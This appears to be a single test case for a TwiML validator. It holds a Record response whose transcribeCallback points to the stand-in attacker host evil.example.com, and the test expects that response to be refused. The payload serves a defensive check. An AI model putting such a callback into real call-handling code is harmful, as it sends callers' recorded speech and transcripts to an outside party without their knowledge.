# class: transcribeCallback of Record to a foreign host; expected: refused twiml
response = '<Response><Record transcribeCallback="https://evil.example.com/PWNED"></Record></Response>'
